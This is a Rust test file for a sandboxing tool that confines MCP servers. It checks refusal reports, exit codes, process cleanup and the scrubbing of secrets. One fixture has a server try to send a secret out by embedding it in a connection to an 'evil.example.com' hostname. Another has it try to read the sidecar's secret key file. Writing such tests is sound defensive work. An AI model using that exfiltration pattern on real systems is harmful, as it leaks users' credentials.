//! `cofferdam confine test`: what a server asks for and is refused is named with the entry that would allow it.

use std::io::Write as _;
use std::net::{Ipv4Addr, TcpListener};
use std::path::{Path, PathBuf};

use cofferdam_tests::server::Server;
use cofferdam_tests::world::World;
use serde_json::{Value, json};

const SCRIPT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/confinement/needy.py");

/// Files that a server may ask for, and a use that asks for them.
struct Scene {
    directory: tempfile::TempDir,
}

impl Scene {
    fn new() -> Self {
        let directory = tempfile::tempdir().expect("make a directory");
        for name in ["shown", "hidden", "other"] {
            std::fs::create_dir(directory.path().join(name)).expect("make a directory");
            std::fs::write(directory.path().join(name).join("file"), name).expect("write a file");
        }
        Self { directory }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.directory.path().canonicalize().expect("it is there").join(name)
    }

    fn text(&self, name: &str) -> String {
        self.path(name).display().to_string()
    }

    /// A file with calls of the server's tool.
    fn recorded(&self, calls: &[(&str, &str)]) -> String {
        let path = self.path("use.jsonl");
        let mut file = std::fs::File::create(&path).expect("make the file");
        for (what, target) in calls {
            let arguments = json!({ "what": what, "target": target });
            let params = json!({ "name": "do", "arguments": arguments });
            writeln!(file, "{}", json!({ "method": "tools/call", "params": params })).expect("write the use");
        }
        path.display().to_string()
    }
}

fn needy(profile: &[&str]) -> Server {
    let server = Server::command(["/usr/bin/python3", SCRIPT]).confined();
    profile.iter().fold(server, |server, entry| server.confine(entry))
}

#[track_caller]
fn tested(server: Server, arguments: &[&str], code: i32) -> Value {
    let world = World::new().server("tried", server).prepare();
    let arguments = [&["confine", "test", "tried", "--json"], arguments].concat();
    let output = world.cofferdam(&arguments);
    let (stdout, stderr) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert_eq!(output.status.code(), Some(code), "{stdout}{stderr}");
    world.assert_nothing_is_in_the_state_directory();
    serde_json::from_str(&stdout).unwrap_or_default()
}

/// The entries that are missing, as `KEY ENTRY`.
fn lacking(report: &Value) -> Vec<String> {
    let refused = report["refused"].as_array().unwrap_or_else(|| panic!("{report:#}"));
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let mut lacking: Vec<String> = refused
        .iter()
        .map(|refusal| format!("{} {}", text(&refusal["key"]), text(&refusal["entry"])))
        .collect();
    lacking.sort();
    lacking
}

#[test]
fn each_refusal_is_named_with_the_entry_that_allows_it() {
    let scene = Scene::new();
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listen");
    let port = listener.local_addr().expect("an address").port();
    std::thread::spawn(move || {
        listener.incoming().flatten().for_each(|mut peer| _ = peer.write_all(b"hello"))
    });
    let calls = [
        ("read", scene.text("hidden/file")),
        ("read", "/nonexistent/file".to_owned()),
        ("write", scene.text("shown/file")),
        ("write", scene.text("shown/new")),
        ("relative", scene.text("other/file")),
        ("in_directory", scene.text("other/file")),
        ("run", "/usr/bin/true".to_owned()),
        ("connect", "uploads.example.com:443".to_owned()),
        ("connect", format!("127.0.0.1:{port}")),
        ("write", "/tmp/new".to_owned()),
    ];
    let calls: Vec<(&str, &str)> = calls.iter().map(|(what, target)| (*what, target.as_str())).collect();
    let recorded = scene.recorded(&calls);
    let narrow = needy(&["exec = []"]).shown(&scene.path("shown"));
    let report = tested(narrow, &["--use", &recorded], 77);
    let expected = [
        "confine.exec /usr/bin/true".to_owned(),
        "confine.hosts uploads.example.com:443".to_owned(),
        format!("confine.read {}", scene.text("hidden/file")),
        format!("confine.read {}", scene.text("other")),
        format!("confine.write {}", scene.text("shown")),
    ];
    assert_eq!(lacking(&report), expected, "{report:#}");
    let errors = |report: &Value| {
        let answers = report["answers"].as_array().expect("a list").iter();
        answers.map(|answer| answer["error"].as_str().unwrap_or("-").to_owned()).collect::<Vec<_>>()
    };
    assert!(errors(&report)[0].starts_with("FileNotFoundError"), "{report:#}");
    assert_eq!(report["unknown"], 0, "{report:#}");

    // With these entries nothing is refused, and what is asked for is there.
    let wide = needy(&["exec = [\"/usr/bin/true\"]"])
        .shown(&scene.path("hidden/file"))
        .shown(&scene.path("other"))
        .writing(&scene.path("shown"))
        .confine(&format!("hosts = [\"uploads.example.com:443\", \"127.0.0.1:{port}\"]"));
    let calls: Vec<(&str, &str)> =
        calls.into_iter().filter(|(_, target)| !target.contains("example")).collect();
    let recorded = scene.recorded(&calls);
    let report = tested(wide, &["--use", &recorded], 0);
    assert_eq!(report["refused"], json!([]), "{report:#}");
    let errors = errors(&report);
    assert!(errors[1].starts_with("FileNotFoundError"), "what is nowhere is not refused: {errors:?}");
    assert!(errors.iter().enumerate().all(|(index, error)| index == 1 || error == "-"), "{errors:?}");
}

#[test]
fn a_file_of_the_sidecar_is_never_proposed() {
    let scene = Scene::new();
    let world = World::new().server("tried", needy(&[])).secret_file("key", "a-secret-4711").prepare();
    let secret = world.layout().root().join("secrets/key");
    let recorded = scene.recorded(&[("read", secret.to_str().expect("UTF-8"))]);
    let output = world.cofferdam(&["confine", "test", "tried", "--use", &recorded]);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(77), "{stdout}");
    let expected = format!("it asked for `{}`, which is the sidecar's own", secret.display());
    assert!(stdout.contains(&expected) && !stdout.contains("lacks"), "{stdout}");
}

#[test]
fn a_server_that_does_not_start_is_named_with_what_it_was_refused() {
    let scene = Scene::new();
    let server = needy(&[]).env("MUST_READ", &scene.text("hidden/file"));
    let report = tested(server, &[], 69);
    assert_eq!(lacking(&report), [format!("confine.read {}", scene.text("hidden/file"))]);
    assert!(report["error"].as_str().is_some_and(|error| error.contains("FileNotFoundError")), "{report:#}");
}

#[test]
fn what_a_server_says_is_scrubbed() {
    let scene = Scene::new();
    let secret = "tunnelled-4711-0815-c0ffee";
    let server = needy(&[]).env("SECRET", "{mark.value}");
    let world = World::new().server("tried", server).secret_file("mark", secret).prepare();
    let recorded = scene.recorded(&[
        ("connect", &format!("{secret}.evil.example.com:443")),
        ("read", &format!("/nonexistent/{secret}")),
    ]);
    for format in [&["--json"][..], &[]] {
        let output = world.cofferdam(&[&["confine", "test", "tried", "--use", &recorded], format].concat());
        let printed =
            format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        assert_eq!(output.status.code(), Some(77), "{printed}");
        assert!(printed.contains("evil.example.com") && !printed.contains(secret), "{printed}");
    }
}

#[test]
fn real_servers_are_refused_nothing() {
    let directory = tempfile::tempdir().expect("make a directory");
    std::fs::write(directory.path().join("file"), "content").expect("write a file");
    let path = directory.path().canonicalize().expect("it is there");
    let (Some(everything), Some(files), Some(time)) =
        (Server::everything(), Server::filesystem(&path), Server::time())
    else {
        return;
    };
    for (server, name) in [
        (everything.confined(), "servers/everything"),
        (files.clone().writing(&path), "secure-filesystem-server"),
        (time.confined(), "mcp-time"),
    ] {
        let report = tested(server, &[], 0);
        assert_eq!(report["refused"], json!([]), "{report:#}");
        assert!(report["software"].as_str().is_some_and(|software| software.contains(name)), "{report:#}");
    }
    // Without its directory the server for files does not start, or finds nothing in it.
    let world = World::new().server("tried", files.confined()).prepare();
    let output = world.cofferdam(&["confine", "test", "tried"]);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(matches!(output.status.code(), Some(69 | 77)), "{stdout}");
    assert!(stdout.contains(&format!("`servers.tried.confine.read` lacks `{}`", path.display())), "{stdout}");
}

#[test]
fn each_failure_has_its_exit_code() {
    let scene = Scene::new();
    let write = |name: &str, text: &str| {
        std::fs::write(scene.path(name), text).expect("write a file");
        scene.text(name)
    };
    let recorded = write("good", "{\"method\": \"ping\"}\n");
    tested(needy(&[]), &["--use", &recorded], 0);
    tested(needy(&[]), &["--use", &write("bad", "{\"method\"")], 65);
    tested(needy(&[]), &["--use", &write("large", &" ".repeat(16 * 1024 * 1024 + 1))], 65);
    tested(needy(&[]), &["--use", &scene.text("missing")], 66);
    tested(needy(&[]), &["--use", "/dev/zero"], 66);
    tested(Server::command(["/usr/bin/false"]).confined(), &[], 69);
    tested(Server::command(["/usr/bin/python3", SCRIPT]).line("confine = \"off\""), &[], 78);
    tested(Server::command(["/nonexistent/server"]).confined(), &[], 78);
    tested(Server::http("https://mcp.example.com/"), &[], 64);
}

#[test]
fn no_process_is_left() {
    let mark = "the-only-server-4711-of-this-test";
    let report = tested(needy(&[]).env("MARK", mark), &[], 0);
    assert_eq!(report["tools"], 1, "{report:#}");
    let is_marked = |entry: &std::fs::DirEntry| {
        let environment = std::fs::read(Path::new("/proc").join(entry.file_name()).join("environ"));
        environment.is_ok_and(|bytes| String::from_utf8_lossy(&bytes).contains(mark))
    };
    let left = std::fs::read_dir("/proc").expect("list the processes").flatten().find(is_marked);
    assert!(left.is_none(), "{left:?}");
}
